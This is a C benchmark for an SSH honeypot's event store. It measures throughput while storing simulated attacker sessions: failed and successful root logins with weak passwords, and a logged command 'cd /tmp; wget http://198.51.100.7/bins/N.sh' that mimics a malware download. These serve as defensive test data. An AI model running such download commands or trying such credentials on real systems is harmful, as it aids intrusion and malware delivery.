/* store.c -- events stored per second: from message to rows, JSON lines and
 * confirmation, in one process, on the disk of the temporary folder.
 *
 * The mixture is that of an attacked sensor: connections, logins, commands
 * with decision and transition.
 * SPDX-License-Identifier: Apache-2.0                                  */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "base/buf.h"
#include "base/str.h"
#include "store/store.h"

enum { SESSIONS = 6000, COMMANDS = 6, BATCH_EVENTS = 2000 };

static double now_s(clockid_t which)
{
    struct timespec t;
    clock_gettime(which, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static struct store_sender *sender;
static struct store *store;
static struct clock wall;
static struct event_source source = {.src_ip = "203.0.113.9",
                                     .dst_ip = "192.0.2.1",
                                     .src_port = 40022,
                                     .dst_port = 22,
                                     .protocol = EVENT_SSH};
static uint64_t number;
static size_t events;

static void no_reply(void *ctx, uint32_t type, const void *body, size_t n)
{
    (void)ctx, (void)type, (void)body, (void)n;
}

static void tell(enum event_id id, const void *fields)
{
    static struct buf b = {.max = IPC_MAX};

    buf_clear(&b);
    if (buf_put_u64(&b, ++number) || event_encode(&b, id, &source, clock_real_us(&wall), fields))
        exit(1);
    store_recv(sender, STORE_MSG_EVENT | STORE_MSG_NUMBERED, buf_ptr(&b), buf_len(&b), -1);
    if (++events % BATCH_EVENTS == 0 && store_commit(store))
        exit(1);
}

static void command(int i)
{
    static const float window[10] = {0, 0, 0, 0, 8, 3, 22, 4, 7, 12}, q[5] = {1.5f, -2, 3, 0, 7};
    char line[80];

    (void)str_fmt(line, sizeof line, "cd /tmp; wget http://198.51.100.7/bins/%d.sh", i);
    tell(EVENT_COMMAND_INPUT, &(struct event_command_input){.input = event_s(line)});
    tell(EVENT_ACTION, &(struct event_action){.input = event_s(line),
                                              .action = event_s("delay"),
                                              .action_id = 1,
                                              .kind = event_s("program"),
                                              .path = event_s("/usr/bin/wget"),
                                              .state = {window, 10},
                                              .q = {q, 5},
                                              .propensity = 0.92,
                                              .agent = event_s("dqn"),
                                              .decide_us = 90});
    tell(EVENT_TRANSITION, &(struct event_transition){.action = event_s("delay"),
                                                      .reward_profile = event_s("artefact"),
                                                      .reward = 500,
                                                      .state = {window, 10},
                                                      .next_state = {window, 10}});
}

static void session(int i)
{
    (void)str_fmt(source.session, sizeof source.session, "%012llx",
                  (unsigned long long)i * 0x9e3779b97f4aULL & 0xffffffffffff);
    tell(EVENT_SESSION_CONNECT, NULL);
    tell(EVENT_CLIENT_VERSION, &(struct event_client_version){.version = event_s("SSH-2.0-Go")});
    for (int k = 0; k < 3; k++)
        tell(EVENT_LOGIN_FAILED, &(struct event_login_failed){.username = event_s("root"),
                                                              .password = event_s("123456")});
    tell(EVENT_LOGIN_SUCCESS,
         &(struct event_login_success){.username = event_s("root"), .password = event_s("admin")});
    for (int k = 0; k < COMMANDS; k++)
        command(k);
    tell(EVENT_SESSION_CLOSED, &(struct event_session_closed){.duration_ms = 1000});
}

static void clean(const char *dir)
{
    static const char *const names[] = {"log/qrassh.json", "qrassh.db", "log", "tty",
                                        "artefacts",       ""};
    char path[100];

    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if (str_fmt(path, sizeof path, "%s/%s", dir, names[i]))
            (void)remove(path);
}

int main(void)
{
    char dir[] = "/tmp/qrassh-bench-XXXXXX", why[300];
    struct store_conf conf = {.dir = dir, .sensor = "bench", .uuid = "u", .clock = &wall};
    double cpu, real;

    clock_init(&wall);
    if (!mkdtemp(dir) || store_open(&conf, &store, why, sizeof why))
        return 1;
    sender = store_sender_new(store, no_reply, NULL);
    struct buf hello = {.max = 64};
    if (!sender || buf_put_u64(&hello, 1) || buf_put_cstring(&hello, "bench"))
        return 1;
    store_recv(sender, STORE_MSG_HELLO, buf_ptr(&hello), buf_len(&hello), -1);
    cpu = now_s(CLOCK_PROCESS_CPUTIME_ID);
    real = now_s(CLOCK_MONOTONIC);
    for (int i = 0; i < SESSIONS; i++)
        session(i);
    if (store_commit(store))
        return 1;
    cpu = now_s(CLOCK_PROCESS_CPUTIME_ID) - cpu;
    real = now_s(CLOCK_MONOTONIC) - real;
    printf("%zu events: %.0f a second, %.1f us of CPU each\n", events, (double)events / real,
           cpu / (double)events * 1e6);
    store_close(store);
    clean(dir);
    buf_done(&hello);
    return 0;
}
